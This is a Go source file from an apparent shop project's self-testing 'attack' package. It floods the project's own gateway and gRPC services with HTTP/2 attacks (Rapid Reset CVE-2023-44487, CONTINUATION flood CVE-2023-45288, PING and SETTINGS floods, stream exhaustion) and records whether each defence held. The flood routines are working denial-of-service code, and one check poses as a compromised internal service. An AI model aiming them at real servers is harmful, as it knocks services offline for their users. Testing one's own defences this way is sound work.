package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/souk-shop/souk/tools/internal/localshop"
	"github.com/souk-shop/souk/tools/internal/topology"
)

// frames are floods of HTTP/2: at the gateway where it ends TLS itself, and at the services by
// a part that was taken over.
var frames = []Attack{
	{
		Name: "http2-clear", Would: "use HTTP/2 where nothing expects it",
		Now: "without TLS there is none", Test: "TestNoHTTP2InTheClear", try: http2Clear,
	},
	{
		Name: "http2-reset", Would: "start work without end by streams that are reset at once (CVE-2023-44487)",
		Now:  "64 are under way at once; the connection ends when more wait, or when too few are seen to their end",
		Test: "TestHTTP2RapidReset, TestHTTP2ResetsAreCounted", try: overTLS(rapidReset),
	},
	{
		Name: "http2-streams", Would: "have more requests under way than the shop can answer",
		Now: "64 on a connection, the others are refused", Test: "TestHTTP2LimitsAreSaid, TestHTTP2RapidReset", try: overTLS(manyStreams),
	},
	{
		Name: "http2-continuation", Would: "fill memory with a header that does not end (CVE-2023-45288)",
		Now: "the connection ends beyond 16 KiB", Test: "TestHTTP2Continuation", try: overTLS(continuation),
	},
	{
		Name: "http2-ping", Would: "have the shop answer PING after PING", Before: "as long as one liked",
		Now: "the connection ends after 1 MiB", Test: "TestHTTP2ControlFrames", try: overTLS(control(func(p *peer) error { return p.WritePing(false, [8]byte{}) })),
	},
	{
		Name: "http2-settings", Would: "have the shop acknowledge SETTINGS after SETTINGS", Before: "as long as one liked",
		Now: "the connection ends after 1 MiB", Test: "TestHTTP2ControlFrames", try: overTLS(control(func(p *peer) error { return p.WriteSettings() })),
	},
	{
		Name: "grpc-floods", Would: "a part that was taken over floods another with PING",
		Now: "ENHANCE_YOUR_CALM after the second that is too early; 4,096 calls on a connection", Test: "TestLimitsOfHTTP2", try: grpcFloods,
	},
}

const (
	// floodFrames is how many frames a flood has at most.
	floodFrames = 200_000
	// resets is how many requests are reset, of two frames each.
	resets = floodFrames / 2
)

// peer speaks HTTP/2 frame by frame.
type peer struct {
	*http2.Framer
	conn   net.Conn
	block  bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32
	// answered and refused are streams.
	answered, refused atomic.Int64
}

func newPeer(conn net.Conn) (*peer, error) {
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	p := &peer{Framer: http2.NewFramer(conn, conn), conn: conn, stream: 1}
	p.hpack = hpack.NewEncoder(&p.block)
	return p, p.WriteSettings()
}

// ask begins a request and returns its stream.
func (p *peer) ask(host string, end bool) (uint32, error) {
	p.block.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", "/v1/products"}} {
		_ = p.hpack.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // a buffer takes everything
	}
	id := p.stream
	p.stream += 2
	return id, p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.block.Bytes(), EndHeaders: end, EndStream: true})
}

// drain reads until the connection ends, and returns how: the code of its last GOAWAY.
func (p *peer) drain() <-chan string {
	how := make(chan string, 1)
	go func() {
		said := ""
		for {
			f, err := p.ReadFrame()
			if err != nil {
				if errors.Is(err, os.ErrDeadlineExceeded) {
					said = ""
				} else if said == "" {
					said = "closed"
				}
				how <- said
				return
			}
			switch f := f.(type) {
			case *http2.GoAwayFrame:
				said = f.ErrCode.String()
			case *http2.HeadersFrame:
				p.answered.Add(1)
			case *http2.RSTStreamFrame:
				p.refused.Add(1)
			}
		}
	}()
	return how
}

// overTLS runs a flood of frames at the gateway.
func overTLS(flood func(p *peer, host string) (sent int)) func(context.Context, *target) outcome {
	return func(ctx context.Context, t *target) outcome {
		if t.url.Scheme != "https" {
			return notTried("the gateway speaks HTTP/1.1 here: browsers meet the HTTP/2 of the proxy in front")
		}
		conn, err := t.dialFrom(ctx, asAttacker, "h2")
		if err != nil {
			return broken("%v", err)
		}
		defer conn.Close()
		if conn.(*tls.Conn).ConnectionState().NegotiatedProtocol != "h2" {
			return notTried("HTTP/2 is not offered")
		}
		p, err := newPeer(conn)
		if err != nil {
			return broken("%v", err)
		}
		how := p.drain()
		sent := 0
		h := t.beside(ctx, func(context.Context) { sent = flood(p, t.url.Hostname()) })
		_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
		ended := <-how
		switch {
		case ended != "":
		case sent == resets:
			// Their handlers were done before the resets came: they were requests like others.
			return t.withstood(h, "%d requests were served, of which %d were not reset before", sent, p.answered.Load())
		case p.refused.Load()+p.answered.Load() > 0 && p.refused.Load()+p.answered.Load() >= int64(sent):
			return t.withstood(h, "of %d requests %d were answered, %d refused", sent, p.answered.Load(), p.refused.Load())
		default:
			return broken("the connection goes on after %d frames or requests; %d were answered, %d refused", sent, p.answered.Load(), p.refused.Load())
		}
		return t.withstood(h, "after %d frames or requests the connection ended: %s", sent, ended)
	}
}

func rapidReset(p *peer, host string) (sent int) {
	for ; sent < resets; sent++ {
		id, err := p.ask(host, true)
		if err != nil || p.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break
		}
	}
	return sent
}

func manyStreams(p *peer, host string) (sent int) {
	for ; sent < 20_000; sent++ {
		if _, err := p.ask(host, true); err != nil {
			break
		}
	}
	return sent
}

func continuation(p *peer, host string) (sent int) {
	if _, err := p.ask(host, false); err != nil {
		return 0
	}
	for ; sent < floodFrames; sent++ {
		p.block.Reset()
		value := string(binary.BigEndian.AppendUint64(nil, uint64(sent))) + strings.Repeat("y", 4<<10)
		_ = p.hpack.WriteField(hpack.HeaderField{Name: "x", Value: value, Sensitive: true})
		if p.WriteContinuation(1, false, p.block.Bytes()) != nil {
			break
		}
	}
	return sent
}

func control(send func(p *peer) error) func(*peer, string) int {
	return func(p *peer, _ string) (sent int) {
		for ; sent < floodFrames; sent++ {
			if send(p) != nil {
				break
			}
		}
		return sent
	}
}

func http2Clear(ctx context.Context, t *target) outcome {
	if t.url.Scheme == "https" {
		return notTried("the gateway speaks TLS here")
	}
	text, err := t.raw(ctx, http2.ClientPreface+"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
	if err != nil {
		return broken("%v", err)
	}
	return either(strings.HasPrefix(text, "HTTP/1.1 4") || strings.HasPrefix(text, "HTTP/1.1 5"), "a preface is a bad request: %.12q", text)
}

// grpcFloods floods each service as a part of the shop.
func grpcFloods(ctx context.Context, t *target) outcome {
	if reason := t.noServices(true); reason != "" {
		return notTried("%s", reason)
	}
	id := localshop.Identity(t.dir, topology.Ops)
	certificate, err := tls.LoadX509KeyPair(id.TLSCert, id.TLSKey)
	if err != nil {
		return notTried("a part's certificate: %v", err)
	}
	var got []string
	for _, part := range t.parts() {
		d := tls.Dialer{Config: &tls.Config{Certificates: []tls.Certificate{certificate}, InsecureSkipVerify: true, NextProtos: []string{"h2"}}} //nolint:gosec // an attacker
		conn, err := d.DialContext(ctx, "tcp", t.services[part])
		if err != nil {
			return broken("%s: %v", part, err)
		}
		defer conn.Close()
		p, err := newPeer(conn)
		if err != nil {
			return broken("%s: %v", part, err)
		}
		how := p.drain()
		sent := control(func(p *peer) error { return p.WritePing(false, [8]byte{}) })(p, "")
		select {
		case ended := <-how:
			if ended == "" {
				return broken("%s: the connection goes on after %d PINGs", part, sent)
			}
			got = append(got, ended)
		case <-ctx.Done():
			return broken("%s: %v", part, ctx.Err())
		}
	}
	return held("connections to %s end: %s", strings.Join(t.parts(), ", "), counted(got))
}

// parts are the services whose addresses are known.
func (t *target) parts() []string {
	var parts []string
	for part := range t.services {
		parts = append(parts, part)
	}
	slices.Sort(parts)
	return parts
}

// noServices says why the services cannot be tried; "" if they can.
func (t *target) noServices(asPart bool) string {
	switch {
	case len(t.services) == 0:
		return "the services' addresses are not known, or not reachable from here (--services)"
	case asPart && t.dir == "":
		return "it takes certificates of the shop's parts, of a shop of `souk up` (--data) or others (--certificates)"
	}
	return ""
}
